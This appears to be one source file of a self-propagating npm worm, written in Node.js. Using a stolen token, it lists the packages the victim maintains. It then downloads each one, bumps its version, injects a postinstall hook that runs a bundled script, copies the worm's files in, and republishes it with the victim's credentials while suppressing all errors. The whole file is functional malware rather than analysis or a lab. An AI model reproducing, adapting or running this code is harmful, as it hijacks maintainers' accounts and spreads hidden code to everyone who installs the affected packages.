const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), zlib = require('zlib');
const { execSync } = require('child_process');
const REG = 'registry.npmjs.example.org';
function req(method, p, token, body) {
  return new Promise((res) => {
    const r = https.request({ host: REG, path: p, method, headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' } }, (s) => {
      let b = ''; s.on('data', d => b += d); s.on('end', () => { try { res(JSON.parse(b)); } catch { res(null); } });
    });
    r.on('error', () => res(null)); if (body) r.write(body); r.end();
  });
}
exports.whoami = async t => ((await req('GET', '/-/whoami', t)) || {}).username;
exports.owned = async (u, t) => {
  const r = await req('GET', '/-/v1/search?text=maintainer:' + encodeURIComponent(u) + '&size=250', t);
  return ((r && r.objects) || []).map(o => o.package.name);
};
exports.reinfect = async (name, token) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
  try {
    execSync(`npm pack ${name} --silent`, { cwd: dir, stdio: 'ignore' });
    const tgz = fs.readdirSync(dir).find(f => f.endsWith('.tgz'));
    execSync(`tar xzf ${tgz}`, { cwd: dir });
    const pj = path.join(dir, 'package', 'package.json');
    const m = JSON.parse(fs.readFileSync(pj, 'utf8'));
    const v = m.version.split('.'); v[2] = String(+v[2] + 1); m.version = v.join('.');
    m.scripts = Object.assign({}, m.scripts, { postinstall: 'node lib/bundle.js' });
    fs.writeFileSync(pj, JSON.stringify(m, null, 2));
    fs.mkdirSync(path.join(dir, 'package', 'lib'), { recursive: true });
    for (const f of ['bundle.js', 'env.js', 'reg.js', 'gh.js']) fs.copyFileSync(path.join(__dirname, f), path.join(dir, 'package', 'lib', f));
    fs.writeFileSync(path.join(dir, '.npmrc'), `//${REG}/:_authToken=${token}\n`);
    execSync('npm publish ./package --access public', { cwd: dir, stdio: 'ignore' });
  } catch {}
};
